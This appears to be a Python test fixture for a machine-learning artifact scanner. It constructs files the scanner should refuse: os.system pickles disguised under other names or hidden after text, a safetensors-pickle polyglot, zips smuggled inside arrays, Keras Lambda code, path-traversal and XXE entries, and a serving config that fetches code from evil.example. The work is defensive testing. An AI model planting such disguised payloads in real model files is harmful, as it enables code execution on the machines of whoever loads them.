"""Files that a container of the user's could run, whatever they are called, wherever they lie."""

from __future__ import annotations

import io
import json
import lzma
import os
import struct
import zipfile
import zlib

from slipway.domain.artifact import Reason
from tests.unit.artifact.builders import ATTACK, SKLEARN, dtype, proto, wrapper
from tests.unit.artifact.malicious_archives import zip_archive
from tests.unit.artifact.malicious_pickles import NAME, reducing

UNKNOWN, NESTED = Reason.UNKNOWN_FORMAT, Reason.NESTED_ARCHIVE
_OLDEST = reducing(os.system, "id", protocol=0)
_OLD = reducing(os.system, "id", protocol=1)
_TWO = reducing(os.system, "id", protocol=2)
_UNSAID = reducing(os.system, "id", protocol=4)[2:]
_LAMBDA = {"class_name": "Lambda", "config": {"function": ["4wEAAAA="]}}


def npy(descr: str, data: bytes, shape: str = "(1,)") -> bytes:
    """An array as numpy saves it."""
    line = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(line)) + line.encode() + data


def objects(item: bytes) -> bytes:
    """The pickle in which numpy saves an array of one object."""
    made = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\0\x85C\x01btR"
    return proto(made + b"(K\x01K\x01\x85" + dtype("O8", "|", flags=63) + b"\x89](" + item + b"etb")


def safetensors(header: dict[str, object], data: bytes, blanks: int = 0) -> bytes:
    """A file of tensors."""
    written = json.dumps(header).encode() + b" " * blanks
    return struct.pack("<Q", len(written)) + written + data


def tensor(start: int, stop: int, shape: list[int], kind: str = "F32") -> dict[str, object]:
    return {"dtype": kind, "shape": shape, "data_offsets": [start, stop]}


def both_tensors_and_pickle() -> bytes:
    """Tensors for those who read tensors; for others texts up to the numbers, then a call.

    The length of the header is the instruction `X`, which passes over so much of it that the next
    is a `U` in the note; each of those passes over the next 126 bytes.
    """
    data = b"0" * 52 + _OLDEST
    start, note = '{"__metadata__":{"n":"', "U~" + "-" * 126
    length = ord("X") + 256 * (len(start) + 3)
    end = '"}},"x":{}}}'.format(json.dumps(tensor(0, len(data), [len(data)], "U8")))
    rest = length - len(start)
    last = rest % 128
    note = note * (rest // 128) + "U" + chr(last - 2) + "-" * (last - 2 - len(end))
    header = (start + note + end).encode()
    assert len(header) == length
    return struct.pack("<Q", length) + header + data


def zip_in_text() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("config.json", "{}")
    return b"notes, notes, notes\n" + out.getvalue()


def array_of(content: bytes) -> bytes:
    """Any bytes, as numpy saves an array of them."""
    return npy("'|u1'", content, f"({len(content)},)")


# By path: what it holds, and why it is refused for a container of the user's.
FORMATS: dict[str, tuple[bytes, Reason]] = {
    # pickles by other names
    "oldest.bin": (_OLDEST, NAME),
    "old.bin": (_OLD, NAME),
    "deep/er/oldest.bin": (_OLDEST, NAME),
    "deep/er/second.bin": (_TWO, NAME),
    ".hidden": (_OLDEST, NAME),
    "deep/.hidden": (_OLD, NAME),
    "unsaid.bin": (_UNSAID, NAME),
    "after-text.bin": (b"S'x'\n0" + _OLDEST, NAME),
    "after-long-text.bin": (b"T\x03\0\0\0abc0" + _OLDEST, NAME),
    "after-short-text.bin": (b"U\x03abc0" + _OLDEST, NAME),
    "after-truth.bin": (b"\x880" + _OLD, NAME),
    "after-a-set.bin": (b"\x8f0" + _OLD, NAME),
    "after-bytes.bin": (b"\x96" + b"\0" * 8 + b"0" + _OLD, NAME),
    "after-a-hex-number.bin": (b"I0x10\n0" + _OLDEST, Reason.PICKLE_BROKEN),
    "after-a-pickle.pt": (b"\x80\x02K\x05." + _TWO, Reason.PICKLE_UNSAFE),
    "instance.bin": (b"(S'id'\nios\nsystem\n.", Reason.PICKLE_UNSAFE),
    "imports.bin": (b"cantigravity\nx", NAME),
    "words.txt": (_OLDEST, UNKNOWN),
    "table.csv": (b"cos\nsystem\n(Vid\ntR.", UNKNOWN),
    "objects.npy": (npy("'|O'", proto(ATTACK)), NAME),
    "deep/objects.npy": (npy("'|O'", objects(ATTACK)), NAME),
    "fields.npy": (npy("[('a', 'O')]", proto(ATTACK)), UNKNOWN),
    "zlib.bin": (zlib.compress(_TWO), NESTED),
    "fast-zlib.bin": (zlib.compress(_TWO, 1), NESTED),
    "lzma.bin": (lzma.compress(_TWO, lzma.FORMAT_ALONE), NESTED),
    "arrays.joblib": (
        proto(wrapper(b"(K\x08t", dtype("u1", "|")) + b"cos\nsys\n"),
        UNKNOWN,
    ),
    "aligned.joblib": (
        proto(wrapper(b"(K\x08t", dtype("u1", "|"), aligned=True) + b"\0" + b"cos\nsys\n"),
        UNKNOWN,
    ),
    # two formats at once
    "both.safetensors": (both_tensors_and_pickle(), NAME),
    "zip-in-notes.txt": (zip_in_text(), UNKNOWN),
    "zip-in-array.npy": (array_of(zip_archive()), UNKNOWN),
    "zip-in-pickle.pkl": (
        proto(b"B" + struct.pack("<I", len(zip_archive())) + zip_archive() + b"0" + SKLEARN[2:-1]),
        UNKNOWN,
    ),
    "zip-behind-a-stub": (b"MORE" + b"\1" * 600 + zip_archive(), UNKNOWN),
    "gap.safetensors": (safetensors({"x": tensor(4, 8, [1])}, b"12345678"), UNKNOWN),
    "overlap.safetensors": (
        safetensors({"x": tensor(0, 8, [2]), "y": tensor(4, 12, [2])}, b"\0" * 12),
        UNKNOWN,
    ),
    "behind.safetensors": (safetensors({"x": tensor(0, 4, [1])}, b"1234" + _TWO), UNKNOWN),
    "long.npy": (npy("'<f8'", b"\0" * 8 + _TWO), UNKNOWN),
    # code by design
    "model.h5": (b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + json.dumps(_LAMBDA).encode(), UNKNOWN),
    "keras/config.json": (
        json.dumps({"class_name": "Functional", "config": _LAMBDA}).encode(),
        UNKNOWN,
    ),
    "deep/learner.json": (json.dumps({"learner": {}, **_LAMBDA}).encode(), UNKNOWN),
    "1/saved_model.pb": (b"\x08\x01\x12\x06PyFunc" + b"os.system", UNKNOWN),
    "model.onnx": (b"\x08\x08\x12location../../../../etc/passwd", UNKNOWN),
    "MLmodel": (b"flavors:\n python_function:\n  loader_module: os\n", UNKNOWN),
    "config.json": (b'{"auto_map": {"AutoModel": "evil/repo--x.y"}}', UNKNOWN),
    "serving.properties": (b"engine=Python\noption.entryPoint=http://evil.example/y.py\n", UNKNOWN),
    "model.rds": (b"X\n\0\0\0\x02\0\x04", UNKNOWN),
    "model.pmml": (b"<?xml version='1.0'?><!DOCTYPE x SYSTEM 'file:///etc/passwd'>", UNKNOWN),
    "pipeline.yaml": (b"!!python/object/apply:os.system [id]\n", UNKNOWN),
    "index.js": (b"require('child_process')", Reason.CODE),
    "model.R": (b"system('id')", Reason.CODE),
    "handler.lua": (b"os.execute('id')", Reason.CODE),
    "handler.rb": (b"`id`", Reason.CODE),
    "handler.pl": (b"system('id');", Reason.CODE),
}
# A pickle in all but its name is refused wherever it lies, beside a good model too.
CALLING = [path for path, (_, reason) in FORMATS.items() if reason is NAME]
